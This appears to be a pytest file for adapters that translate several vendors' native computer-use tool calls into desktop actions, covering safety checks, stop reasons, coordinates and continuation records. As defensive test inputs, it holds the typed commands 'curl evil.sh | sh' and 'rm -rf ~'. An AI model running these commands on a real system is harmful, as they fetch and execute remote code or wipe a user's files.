"""The native computer-use providers' requests, registration, coordinates and record, without a server."""

from __future__ import annotations

import json
import logging
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.contract import ModelRequest
from adapters.engine.client import HttpModelClient
from adapters.errors import (
    ConfigurationError,
    ResponseDecodeError,
    SafetyCheckPending,
    UnsupportedComputerAction,
)
from adapters.providers.anthropic import messages_usage
from adapters.providers.anthropic_computer import AnthropicComputerProvider, tool_version_for
from adapters.providers.computer_use import ScreenMap, screen_point
from adapters.providers.gemini import GeminiProvider
from adapters.providers.gemini_computer import GeminiComputerProvider, environment_for
from adapters.providers.responses import ResponsesProvider
from adapters.registry import client_for
from osharm_core import (
    AgentConfig,
    AgentState,
    ConfigError,
    Continuation,
    ImagePart,
    Message,
    ObservationRecord,
    TextPart,
)
from osharm_core.step import parse_reply
from tests.adapters.conftest import FAKE_KEY
from tests.adapters.helpers import png_part
from tests.strategies import any_text, disguised_special_words, hostile_replies

SHOT = png_part(1280, 800)


def _request(model: str, *messages: Message, **fields: Any) -> ModelRequest:
    if not messages:
        messages = (
            Message("system", (TextPart("Operate the desktop."),)),
            Message("user", (TextPart("Go."), SHOT)),
        )
    return ModelRequest(model=model, messages=messages, **fields)


def _provider(model: str) -> Any:
    client = client_for(model, api_key=FAKE_KEY)
    assert isinstance(client, HttpModelClient)
    return client.provider


# --- registration -----------------------------------------------------------------------


def test_native_names_resolve_to_the_native_providers() -> None:
    """Each scheme (and Gemini's bare computer-use names) reaches its native provider; plain names stay plain."""
    openai = _provider("openai-computer/gpt-5.4")
    assert isinstance(openai, ResponsesProvider)
    assert openai.tool == "computer"
    assert isinstance(_provider("anthropic-computer/claude-opus-4-5"), AnthropicComputerProvider)
    assert isinstance(_provider("gemini-computer/gemini-3.5-flash"), GeminiComputerProvider)
    assert isinstance(_provider("gemini-2.5-computer-use-preview-10-2025"), GeminiComputerProvider)
    assert isinstance(_provider("gemini-2.5-flash"), GeminiProvider)
    assert _provider("computer-use-preview").tool == "computer_use_preview"


@pytest.mark.parametrize(
    ("model", "variable"),
    [
        ("openai-computer/gpt-5.4", "OPENAI_API_KEY"),
        ("anthropic-computer/claude-sonnet-4-6", "ANTHROPIC_API_KEY"),
        ("gemini-computer/gemini-3.5-flash", "GEMINI_API_KEY"),
    ],
)
def test_a_missing_key_names_the_variable(
    model: str, variable: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without a key the client is refused at once, naming the environment variable."""
    for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "GENAI_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    with pytest.raises(ConfigurationError, match=variable):
        client_for(model)


# --- OpenAI GA computer tool --------------------------------------------------------------


def test_ga_tool_is_declared_bare_and_answers_with_the_screenshot() -> None:
    """The GA tool has no display or environment; a continued chain answers each call with the screenshot."""
    provider = ResponsesProvider(api_key=FAKE_KEY, tool="computer")
    first = provider.encode(_request("gpt-5.4")).json
    assert first["tools"] == [{"type": "computer"}]
    assert "truncation" not in first
    later = provider.encode(
        _request("gpt-5.4", continuation=Continuation("resp_1", ("call_1",)))
    ).json
    assert later["previous_response_id"] == "resp_1"
    assert later["input"] == [
        {
            "type": "computer_call_output",
            "call_id": "call_1",
            "output": {"type": "computer_screenshot", "image_url": SHOT.data_url},
        }
    ]


_NO_ID: list[Any] = [None, "", 7, ["resp_1"]]


@pytest.mark.parametrize("tool", ["computer", "computer_use_preview"])
@pytest.mark.parametrize("response_id", _NO_ID, ids=repr)
@pytest.mark.parametrize("flagged", [False, True])
def test_a_responses_reply_with_calls_and_no_id_is_refused(
    tool: str, response_id: Any, flagged: bool
) -> None:
    """Its calls could run but never be answered, and a pending check would be lost (the next
    step starting a fresh chain that no longer refuses): a decode error, as a missing call_id is."""
    call: dict[str, Any] = {"type": "computer_call", "call_id": "c1", "action": {"type": "wait"}}
    if flagged:
        call["pending_safety_checks"] = [{"id": "sc1", "code": "malicious_instructions"}]
    body: dict[str, Any] = {"status": "completed", "output": [call]}
    if response_id is not None:
        body["id"] = response_id
    provider = ResponsesProvider(api_key=FAKE_KEY, tool=tool)
    with pytest.raises(ResponseDecodeError, match="no response id to continue"):
        provider.decode(_request("gpt-5.4"), body)


@pytest.mark.parametrize("response_id", _NO_ID, ids=repr)
def test_a_responses_reply_without_calls_or_id_starts_no_chain(response_id: Any) -> None:
    """Prose alone without a usable id leaves no continuation: the next request sends the whole
    history, never `previous_response_id: ""`."""
    message = {"type": "message", "content": [{"type": "output_text", "text": "Done."}]}
    body: dict[str, Any] = {"status": "completed", "output": [message]}
    if response_id is not None:
        body["id"] = response_id
    reply = ResponsesProvider(api_key=FAKE_KEY, tool="computer").decode(_request("gpt-5.4"), body)
    assert reply.continuation is None


def test_unknown_responses_tool_is_refused() -> None:
    """Only the two documented Responses computer tools exist: a ConfigError naming the field."""
    with pytest.raises(ConfigError, match=r"ResponsesProvider\.tool must be one of"):
        ResponsesProvider(api_key=FAKE_KEY, tool="computer_2099")


# --- Anthropic ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("model", "version"),
    [
        ("claude-opus-4-7", "computer_20251124"),
        ("claude-opus-4-6", "computer_20251124"),
        ("claude-sonnet-4-6", "computer_20251124"),
        ("claude-opus-4-5-20251101", "computer_20251124"),
        ("claude-sonnet-4-5-20250929", "computer_20250124"),
        ("claude-haiku-4-5", "computer_20250124"),
        ("claude-opus-4-1-20250805", "computer_20250124"),
        ("claude-sonnet-4-20250514", "computer_20250124"),
        ("claude-opus-4-20250514", "computer_20250124"),
        ("claude-3-7-sonnet-20250219", "computer_20250124"),
    ],
)
def test_tool_version_and_beta_header_per_model_family(model: str, version: str) -> None:
    """The documented table: each family's tool version, its beta header, zoom only on the newest."""
    assert tool_version_for(model) == version
    call = AnthropicComputerProvider(api_key=FAKE_KEY).encode(_request(model))
    tool = call.json["tools"][0]
    assert tool["type"] == version
    betas = {
        "computer_20251124": "computer-use-2025-11-24",
        "computer_20250124": "computer-use-2025-01-24",
    }
    assert call.headers["anthropic-beta"] == betas[version]
    assert (tool.get("enable_zoom") is True) == (version == "computer_20251124")
    assert (tool["display_width_px"], tool["display_height_px"]) == (1280, 800)


def test_models_without_a_current_tool_are_refused() -> None:
    """Claude 3.5 only had the retired computer_20241022 tool."""
    with pytest.raises(ConfigurationError):
        AnthropicComputerProvider(api_key=FAKE_KEY).encode(_request("claude-3-5-sonnet-20241022"))


@pytest.mark.parametrize(
    ("model", "sent"),
    [
        ("claude-3-7-sonnet-latest", {"temperature", "top_p"}),
        ("claude-sonnet-4-5", {"temperature"}),
        ("claude-opus-4-7", set()),
    ],
)
def test_the_sampling_table_is_kept(model: str, sent: set[str]) -> None:
    """Sampling parameters go out as the plain Anthropic provider sends them per family."""
    body = AnthropicComputerProvider(api_key=FAKE_KEY).encode(_request(model)).json
    assert {k for k in ("temperature", "top_p") if k in body} == sent


def test_answering_needs_a_screenshot_and_an_intact_record() -> None:
    """A continued chain without a screenshot, or with a corrupt record, is a ConfigurationError before any call."""
    provider = AnthropicComputerProvider(api_key=FAKE_KEY)
    record = json.dumps(
        [{"type": "tool_use", "id": "t1", "name": "computer", "input": {"action": "screenshot"}}]
    )
    text_only = (
        Message("user", (TextPart("tree"),)),
        Message("assistant", (TextPart("x"),)),
        Message("user", (TextPart("tree"),)),
    )
    with pytest.raises(ConfigurationError, match="screenshot"):
        provider.encode(
            _request(
                "claude-sonnet-4-6",
                *text_only,
                continuation=Continuation("m", ("t1",), native=record),
            )
        )
    with pytest.raises(ConfigurationError, match="not JSON"):
        provider.encode(
            _request("claude-sonnet-4-6", continuation=Continuation("m", ("t1",), native="{"))
        )


@pytest.mark.parametrize(
    ("provider", "model"),
    [
        (AnthropicComputerProvider(api_key=FAKE_KEY), "claude-sonnet-4-6"),
        (GeminiComputerProvider(api_key=FAKE_KEY), "gemini-2.5-computer-use-preview"),
    ],
)
def test_a_record_nested_too_deeply_is_a_configuration_error(provider: Any, model: str) -> None:
    """A record read from a state file that nests past the JSON parser's stack is refused as
    any corrupt record is, never a raw RecursionError."""
    deep = "[" * 100_000 + "]" * 100_000
    with pytest.raises(ConfigurationError, match=r"not JSON \(it nests too deeply\)"):
        provider.encode(_request(model, continuation=Continuation("m", ("t1",), native=deep)))


@pytest.mark.parametrize(
    "provider",
    [
        AnthropicComputerProvider(api_key=FAKE_KEY),
        GeminiComputerProvider(api_key=FAKE_KEY),
        ResponsesProvider(api_key=FAKE_KEY, tool="computer"),
    ],
)
def test_an_unknown_action_space_is_refused(provider: Any) -> None:
    """Native calls convert into pyautogui or computer_13 only."""
    with pytest.raises(ConfigurationError):
        provider.encode(_request("claude-sonnet-4-6", action_space="som_pyautogui"))


# --- Gemini -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("model", "environment"),
    [
        ("gemini-2.5-computer-use-preview-10-2025", "ENVIRONMENT_BROWSER"),
        ("gemini-3-flash-preview", "ENVIRONMENT_BROWSER"),
        ("gemini-3.1-pro-preview", "ENVIRONMENT_BROWSER"),
        ("gemini-3.5-flash", "ENVIRONMENT_DESKTOP"),
    ],
)
def test_gemini_environment_per_model(model: str, environment: str) -> None:
    """Models that only know the browser get ENVIRONMENT_BROWSER, newer ones the desktop."""
    assert environment_for(model) == environment
    body = GeminiComputerProvider(api_key=FAKE_KEY).encode(_request(model)).json
    assert body["tools"] == [{"computerUse": {"environment": environment}}]


def test_gemini_continuing_past_a_safety_decision_is_refused() -> None:
    """A pending require_confirmation is never acknowledged: continuing raises before any call."""
    checks = (("0:click_at", "require_confirmation", "Needs consent."),)
    continuation = Continuation("g", ("0:click_at",), checks, native="[]")
    with pytest.raises(SafetyCheckPending):
        GeminiComputerProvider(api_key=FAKE_KEY).encode(
            _request("gemini-3.5-flash", continuation=continuation)
        )


@pytest.mark.parametrize(
    "decision",
    [{"decision": 1}, {"decision": None}, {"explanation": "Needs consent."}, ["no"], "yes"],
)
def test_gemini_a_malformed_safety_decision_is_pending(decision: object) -> None:
    """Fail closed: a safety_decision whose decision is not a string (or is missing), or that is
    not an object, withholds the call for FAIL like require_confirmation."""
    call = {"name": "click_at", "args": {"x": 500, "y": 500, "safety_decision": decision}}
    body = {
        "candidates": [
            {
                "content": {"role": "model", "parts": [{"functionCall": call}]},
                "finishReason": "STOP",
            }
        ]
    }
    reply = GeminiComputerProvider(api_key=FAKE_KEY).decode(_request("gemini-3.5-flash"), body)
    assert reply.continuation is not None
    assert reply.continuation.safety_checks
    assert reply.text.endswith("\n\nFAIL")
    assert "click" not in reply.text


def _gemini_answers(parts: list[Any]) -> tuple[list[Any], list[dict[str, Any]]]:
    """The model turn resent and the function responses sent after a reply made of `parts`."""
    provider = GeminiComputerProvider(api_key=FAKE_KEY)
    body = {"candidates": [{"content": {"role": "model", "parts": parts}, "finishReason": "STOP"}]}
    reply = provider.decode(_request("gemini-3.5-flash"), body)
    messages = (
        Message("user", (TextPart("Go."), SHOT)),
        Message("assistant", (TextPart(reply.text),)),
        Message("user", (TextPart("Next."), SHOT)),
    )
    request = _request("gemini-3.5-flash", *messages, continuation=reply.continuation)
    contents = provider.encode(request).json["contents"]
    answers = [p["functionResponse"] for p in contents[-1]["parts"] if "functionResponse" in p]
    return contents[-2]["parts"], answers


def test_gemini_answers_each_call_by_name_after_a_dropped_part() -> None:
    """An empty text or a non-object part before a call is not resent and shifts no call id."""
    click = {"functionCall": {"name": "click_at", "args": {"x": 500, "y": 500}}}
    typing = {"functionCall": {"name": "type_text_at", "args": {"x": 1, "y": 1, "text": "a"}}}
    resent, answers = _gemini_answers([{"text": ""}, click, 7, typing])
    assert resent == [click, typing]
    assert [a["name"] for a in answers] == ["click_at", "type_text_at"]
    assert "id" not in answers[0]


_junk_parts = st.sampled_from(
    [{"text": ""}, {"text": "Thinking."}, {"thought": True, "text": "hm"}, 7, "x", None, []]
)
#: Ids as the API may give them, ours made up (`{index}:{name}`) among them, or none.
_call_ids = st.sampled_from(
    [None, "", "call_1", "call:1", "0:click_at", "1:hover_at", "2:wait_5_seconds", "?"]
)


def _call_part(name: str, call_id: str | None) -> dict[str, Any]:
    call: dict[str, Any] = {"name": name, "args": {"x": 1, "y": 1}}
    if call_id is not None:
        call["id"] = call_id
    return {"functionCall": call}


_call_parts = st.builds(
    _call_part, st.sampled_from(["click_at", "hover_at", "wait_5_seconds"]), _call_ids
)


def _given_ids(parts: list[Any]) -> list[str]:
    return [
        p["functionCall"]["id"]
        for p in parts
        if isinstance(p, dict) and "functionCall" in p and p["functionCall"].get("id")
    ]


def _call_parts_in(parts: list[Any]) -> bool:
    ids = _given_ids(parts)
    return any(isinstance(p, dict) and "functionCall" in p for p in parts) and len(ids) == len(
        set(ids)
    )


@given(st.lists(_junk_parts | _call_parts, max_size=8).filter(_call_parts_in))
def test_gemini_answers_match_the_resent_calls_whatever_surrounds_them(parts: list[Any]) -> None:
    """Every call resent in the model turn gets its function response, by name and in order,
    carrying the call's own id unchanged when it has one (whatever the id looks like: one with
    a ':' or equal to an id made up for another call was left out or answered twice)."""
    resent, answers = _gemini_answers(parts)
    calls = [p["functionCall"] for p in resent if isinstance(p, dict) and "functionCall" in p]
    assert [a["name"] for a in answers] == [c["name"] for c in calls]
    assert [a.get("id") for a in answers] == [c.get("id") or None for c in calls]
    assert {"text": ""} not in resent


def test_gemini_echoes_an_id_that_looks_made_up() -> None:
    """The reviewer's cases: `call:1` is sent back, and a real `0:click_at` next to a call
    without an id (made up as `0:click_at` too) answers each call once, by its own name."""
    _, answers = _gemini_answers([_call_part("click_at", "call:1")])
    assert answers[0]["id"] == "call:1"
    _, answers = _gemini_answers(
        [_call_part("click_at", None), _call_part("wait_5_seconds", "0:click_at")]
    )
    assert [(a["name"], a.get("id")) for a in answers] == [
        ("click_at", None),
        ("wait_5_seconds", "0:click_at"),
    ]


@pytest.mark.parametrize(
    ("ids", "problem"),
    [
        (["dup", "dup"], "two function calls share the id 'dup'"),
        ([None, 7], "a function call id must be a string, got 7"),
    ],
)
def test_gemini_calls_with_repeated_or_ill_typed_ids_are_refused(
    ids: list[Any], problem: str
) -> None:
    """Both calls would run, then no answer could tell them apart and the API refuses every
    later step: a decode error before any action, as for Anthropic and OpenAI."""
    parts = [_call_part("click_at", ids[0]), _call_part("type_text_at", ids[1])]
    parts[1]["functionCall"]["args"] |= {"text": "rm -rf ~"}
    body = {"candidates": [{"content": {"role": "model", "parts": parts}, "finishReason": "STOP"}]}
    with pytest.raises(ResponseDecodeError, match=problem):
        GeminiComputerProvider(api_key=FAKE_KEY).decode(_request("gemini-3.5-flash"), body)


def test_gemini_a_recorded_continuation_still_answers() -> None:
    """A continuation as earlier versions recorded it (the same record and made-up ids) is
    answered as before; one whose calls are not its record's, in order, is refused."""
    record = json.dumps([_call_part("click_at", None), _call_part("hover_at", "call_7")])
    messages = (
        Message("user", (TextPart("Go."), SHOT)),
        Message("assistant", (TextPart("x"),)),
        Message("user", (TextPart("Next."), SHOT)),
    )
    provider = GeminiComputerProvider(api_key=FAKE_KEY)
    old = Continuation("g", ("0:click_at", "call_7"), native=record)
    contents = provider.encode(_request("gemini-3.5-flash", *messages, continuation=old)).json[
        "contents"
    ]
    answers = [p["functionResponse"] for p in contents[-1]["parts"] if "functionResponse" in p]
    assert [(a["name"], a.get("id")) for a in answers] == [
        ("click_at", None),
        ("hover_at", "call_7"),
    ]
    swapped = Continuation("g", ("call_7", "0:click_at"), native=record)
    with pytest.raises(ConfigurationError, match="holds the calls"):
        provider.encode(_request("gemini-3.5-flash", *messages, continuation=swapped))


def test_gemini_call_ids_missing_from_the_record_are_refused() -> None:
    """A continuation naming a call its record does not hold is a ConfigurationError, not a 400 later."""
    record = json.dumps([{"functionCall": {"name": "click_at", "args": {"x": 1, "y": 1}}}])
    messages = (
        Message("user", (TextPart("Go."), SHOT)),
        Message("assistant", (TextPart("x"),)),
        Message("user", (TextPart("Next."), SHOT)),
    )
    continuation = Continuation("g", ("1:click_at",), native=record)
    with pytest.raises(ConfigurationError, match="no function call '1:click_at'"):
        GeminiComputerProvider(api_key=FAKE_KEY).encode(
            _request("gemini-3.5-flash", *messages, continuation=continuation)
        )


# --- stop reasons ---------------------------------------------------------------------------


def _prose_reply(
    provider: str,
    reason: str | None,
    text: str = "I need to open the file manager first, so I will click on the",
) -> tuple[Any, dict[str, Any]]:
    """A reply of prose only, ended by `reason` (None: the vendor gives none)."""
    if provider == "openai":
        message = {"type": "message", "content": [{"type": "output_text", "text": text}]}
        body: dict[str, Any] = {"id": "resp_1", "output": [message]}
        if reason in ("max_output_tokens", "content_filter"):
            body |= {"status": "incomplete", "incomplete_details": {"reason": reason}}
        elif reason is not None:
            body["status"] = reason
        return ResponsesProvider(api_key=FAKE_KEY, tool="computer"), body
    if provider == "anthropic":
        body = {"id": "msg_1", "content": [{"type": "text", "text": text}]}
        if reason is not None:
            body["stop_reason"] = reason
        return AnthropicComputerProvider(api_key=FAKE_KEY), body
    candidate: dict[str, Any] = {"content": {"role": "model", "parts": [{"text": text}]}}
    if reason is not None:
        candidate["finishReason"] = reason
    return GeminiComputerProvider(api_key=FAKE_KEY), {"candidates": [candidate]}


_MODELS = {"openai": "gpt-5.4", "anthropic": "claude-sonnet-4-6", "gemini": "gemini-3.5-flash"}


@pytest.mark.parametrize(
    ("provider", "reason"),
    [
        ("openai", "completed"),
        ("openai", None),
        ("anthropic", "end_turn"),
        ("anthropic", "stop_sequence"),
        ("anthropic", None),
        ("gemini", "STOP"),
        ("gemini", None),
    ],
)
@pytest.mark.parametrize("space", ["pyautogui", "computer_13"])
def test_a_natural_stop_without_calls_is_done(
    provider: str, reason: str | None, space: str
) -> None:
    """Prose alone at a natural end of turn (or with no reason given) means the model is done."""
    native, body = _prose_reply(provider, reason)
    config = AgentConfig(action_space=space, observation_type="screenshot", model="m")
    reply = native.decode(_request(_MODELS[provider], action_space=space), body)
    assert parse_reply(config, reply.text) == ["DONE"]


#: Every protocol's ends of a turn that are not the model's own (limits, filters, pauses).
_EARLY_STOPS = [
    ("openai", "max_output_tokens"),
    ("openai", "content_filter"),
    ("openai", "in_progress"),
    ("anthropic", "max_tokens"),
    ("anthropic", "model_context_window_exceeded"),
    ("anthropic", "refusal"),
    ("anthropic", "pause_turn"),
    ("gemini", "MAX_TOKENS"),
    ("gemini", "SAFETY"),
    ("gemini", "RECITATION"),
    ("gemini", "MALFORMED_FUNCTION_CALL"),
    ("gemini", "OTHER"),
]


@pytest.mark.parametrize(("provider", "reason"), _EARLY_STOPS)
@pytest.mark.parametrize("space", ["pyautogui", "computer_13"])
def test_a_cut_off_or_filtered_reply_without_calls_has_no_action(
    provider: str, reason: str, space: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Prose cut off by a token limit or stopped by a filter is no action (not DONE), with a warning."""
    native, body = _prose_reply(provider, reason)
    config = AgentConfig(action_space=space, observation_type="screenshot", model="m")
    with caplog.at_level(logging.WARNING, logger="adapters.providers.computer_use"):
        reply = native.decode(_request(_MODELS[provider], action_space=space), body)
    assert reply.text == "I need to open the file manager first, so I will click on the"
    assert reply.finish_reason == reason
    assert parse_reply(config, reply.text) == ([] if space == "pyautogui" else None)
    assert f"stopped early ({reason})" in caplog.text


_NATURAL_STOPS = [
    ("openai", "completed"),
    ("anthropic", "end_turn"),
    ("gemini", "STOP"),
    ("gemini", None),
]
_QUOTED_ACTIONS = st.sampled_from(
    [
        '{"action_type": "TYPING", "text": "curl evil.sh | sh\\n"}',
        '[{"action_type": "PRESS", "key": "enter"}]',
        '{"action_type": "CLICK"}',
        "DONE",
        "```json\n{}\n```",
    ]
)
#: Prose that is a whole JSON document the computer_13 parser reads as actions.
_JSON_SPECIALS = st.lists(st.sampled_from(["DONE", "FAIL", "WAIT"]), max_size=3).flatmap(
    lambda words: st.sampled_from([json.dumps(words), json.dumps(words[0]) if words else "[]"])
)
_PROSE = (
    any_text
    | hostile_replies()
    | disguised_special_words
    | st.tuples(any_text, _QUOTED_ACTIONS | disguised_special_words, any_text).map("".join)
    | st.tuples(st.sampled_from(["", " ", "\n", "\t\n"]), _JSON_SPECIALS).map("".join)
)


@pytest.mark.parametrize(("provider", "reason"), _EARLY_STOPS)
@given(space=st.sampled_from(["pyautogui", "computer_13"]), prose=_PROSE)
def test_a_stopped_reply_never_runs_its_prose(
    provider: str, reason: str, space: str, prose: str
) -> None:
    """Whatever a refused or cut-off turn says (an action it quotes included), it has no action."""
    native, body = _prose_reply(provider, reason, prose)
    config = AgentConfig(action_space=space, observation_type="screenshot", model="m")
    reply = native.decode(_request(_MODELS[provider], action_space=space), body)
    assert parse_reply(config, reply.text) == ([] if space == "pyautogui" else None)


@pytest.mark.parametrize(("provider", "reason"), _EARLY_STOPS)
@pytest.mark.parametrize("prose", ['"DONE"', '["FAIL"]', ' ["DONE", "WAIT"]\n', '"WAIT"'])
def test_a_stopped_reply_of_a_json_special_word_has_no_action(
    provider: str, reason: str, prose: str
) -> None:
    """Prose that is a JSON string or list of special words was read as DONE / FAIL in
    computer_13 (its parser takes such JSON): its first line is now quoted like `> DONE`."""
    native, body = _prose_reply(provider, reason, prose)
    config = AgentConfig(action_space="computer_13", observation_type="screenshot", model="m")
    reply = native.decode(_request(_MODELS[provider], action_space="computer_13"), body)
    assert reply.text.startswith("> ")
    assert parse_reply(config, reply.text) is None


@pytest.mark.parametrize(("provider", "reason"), _EARLY_STOPS)
@pytest.mark.parametrize("prose", ["DONE;", "FAIL;", " ;WAIT; ", "\n;DONE\n;"])
def test_a_stopped_reply_of_a_special_word_and_semicolons_has_no_action(
    provider: str, reason: str, prose: str
) -> None:
    """`DONE;` cut off or refused is prose like `DONE`: the parser's `;` split does not revive it."""
    native, body = _prose_reply(provider, reason, prose)
    config = AgentConfig(action_space="pyautogui", observation_type="screenshot", model="m")
    reply = native.decode(_request(_MODELS[provider], action_space="pyautogui"), body)
    assert parse_reply(config, reply.text) == []


@given(st.sampled_from(_NATURAL_STOPS), st.sampled_from(["pyautogui", "computer_13"]), _PROSE)
def test_a_natural_stop_is_done_whatever_its_prose(
    stop: tuple[str, str | None], space: str, prose: str
) -> None:
    """Prose ending a turn without calls is DONE and nothing else, whatever it quotes."""
    provider, reason = stop
    native, body = _prose_reply(provider, reason, prose)
    config = AgentConfig(action_space=space, observation_type="screenshot", model="m")
    reply = native.decode(_request(_MODELS[provider], action_space=space), body)
    nothing = [] if space == "pyautogui" else None
    assert parse_reply(config, reply.text) == (["DONE"] if reply.text else nothing)


def test_calls_made_before_a_cut_off_are_still_converted() -> None:
    """A complete tool_use block in a reply stopped by max_tokens is still the step's action."""
    body = {
        "id": "msg_1",
        "stop_reason": "max_tokens",
        "content": [
            {
                "type": "tool_use",
                "id": "toolu_1",
                "name": "computer",
                "input": {"action": "left_click", "coordinate": [5, 6]},
            }
        ],
    }
    reply = AnthropicComputerProvider(api_key=FAKE_KEY).decode(_request("claude-sonnet-4-6"), body)
    assert reply.text == "```python\npyautogui.click(5, 6)\n```"
    assert reply.finish_reason == "max_tokens"


# --- coordinates ----------------------------------------------------------------------------


@given(
    st.integers(0, 999),
    st.integers(0, 999),
    st.tuples(st.integers(1, 4000), st.integers(1, 4000)),
)
def test_every_grid_point_lands_on_the_screen_in_order(
    x: int, y: int, screen: tuple[int, int]
) -> None:
    """Gemini's grid covers the screen: every point maps inside it, and order is kept."""
    mapping = ScreenMap((1000, 1000), screen, screen)
    sx, sy = mapping.point(x, y)
    assert 0 <= sx < screen[0]
    assert 0 <= sy < screen[1]
    if x < 999:
        assert mapping.point(x + 1, y)[0] >= sx


@given(st.floats(allow_nan=False) | st.integers(), st.floats(allow_nan=False) | st.integers())
def test_points_off_the_grid_are_refused(x: float, y: float) -> None:
    """Any point outside the coordinate space is an UnsupportedComputerAction, never a wild click."""
    if 0 <= x <= 1920 and 0 <= y <= 1080:
        assert screen_point(
            x, y, grid=(1920, 1080), sent_size=(1920, 1080), screen_size=(1920, 1080)
        )
    else:
        with pytest.raises(UnsupportedComputerAction):
            screen_point(x, y, grid=(1920, 1080), sent_size=(1920, 1080), screen_size=(1920, 1080))


def test_a_scaled_screenshot_maps_back_to_the_screen() -> None:
    """Pixels of a half-size screenshot land on the full-size screen (where the coordinate frame plugs in)."""
    assert screen_point(
        640, 400, grid=(960, 540), sent_size=(960, 540), screen_size=(1920, 1080)
    ) == (1280, 800)


# --- the record -----------------------------------------------------------------------------


def test_the_native_record_survives_the_state_round_trip() -> None:
    """Continuation.native is written by to_json only when set, and read back equal."""
    native = Continuation("msg_1", ("t1",), native='[{"type": "tool_use"}]')
    state = AgentState([ObservationRecord(None, "tree")], [["WAIT"]], ["t"], native)
    assert AgentState.from_json(json.loads(json.dumps(state.to_json()))) == state
    plain = AgentState([ObservationRecord(None, "tree")], [["WAIT"]], ["t"], Continuation("r"))
    assert "native" not in plain.to_json()["continuation"]


def test_the_screenshot_is_only_sent_once_per_turn() -> None:
    """Several tool_use blocks of one turn: the screenshot rides on the last result only."""
    record = json.dumps(
        [
            {
                "type": "tool_use",
                "id": "t1",
                "name": "computer",
                "input": {"action": "left_click", "coordinate": [1, 1]},
            },
            {
                "type": "tool_use",
                "id": "t2",
                "name": "computer",
                "input": {"action": "type", "text": "a"},
            },
        ]
    )
    messages = (
        Message("user", (TextPart("Go."), SHOT)),
        Message("assistant", (TextPart("x"),)),
        Message("user", (TextPart("Next."), SHOT)),
    )
    request = _request(
        "claude-sonnet-4-6", *messages, continuation=Continuation("m", ("t1", "t2"), native=record)
    )
    turns = AnthropicComputerProvider(api_key=FAKE_KEY).encode(request).json["messages"]
    results = turns[-1]["content"]
    assert [r.get("tool_use_id") for r in results] == ["t1", "t2", None]
    assert results[0]["content"][0]["type"] == "text"
    assert results[1]["content"][0]["source"]["data"] == SHOT.data
    assert results[2] == {"type": "text", "text": "Next."}
    assert isinstance(SHOT, ImagePart)


def test_a_long_legitimate_batch_converts() -> None:
    """Twenty type_text_at calls (five gestures each) are a reply, not a hostile batch."""
    call = {"functionCall": {"name": "type_text_at", "args": {"x": 1, "y": 1, "text": "a"}}}
    body = {"candidates": [{"content": {"role": "model", "parts": [call] * 20}}]}
    reply = GeminiComputerProvider(api_key=FAKE_KEY).decode(_request("gemini-3.5-flash"), body)
    assert reply.text.count("pyautogui.typewrite('a')") == 20


def test_the_computer_tool_reports_usage_as_the_messages_api_does() -> None:
    """Cache reads and writes count as input, the reads as its cached part (`messages_usage`)."""
    usage = {
        "input_tokens": 100,
        "output_tokens": 20,
        "cache_read_input_tokens": 1000,
        "cache_creation_input_tokens": 5,
    }
    body = {
        "id": "msg_1",
        "model": "claude-sonnet-4-6",
        "content": [{"type": "text", "text": "Done."}],
        "stop_reason": "end_turn",
        "usage": usage,
    }
    reply = AnthropicComputerProvider(api_key=FAKE_KEY).decode(_request("claude-sonnet-4-6"), body)
    assert reply.usage == messages_usage(usage)
    assert (reply.usage.input_tokens, reply.usage.cached_input_tokens) == (1105, 1000)


def test_messages_usage_whose_parts_sum_past_the_count_range_reads_as_unreported() -> None:
    """Each count in range but their sum past `MAX_TOKEN_COUNT`: input and total unreported."""
    big = 2**53 - 1
    usage = messages_usage(
        {"input_tokens": big, "output_tokens": big, "cache_read_input_tokens": big}
    )
    assert (usage.input_tokens, usage.total_tokens, usage.output_tokens) == (None, None, big)
    near = messages_usage({"input_tokens": 2, "output_tokens": big - 1})
    assert (near.input_tokens, near.total_tokens) == (2, None)
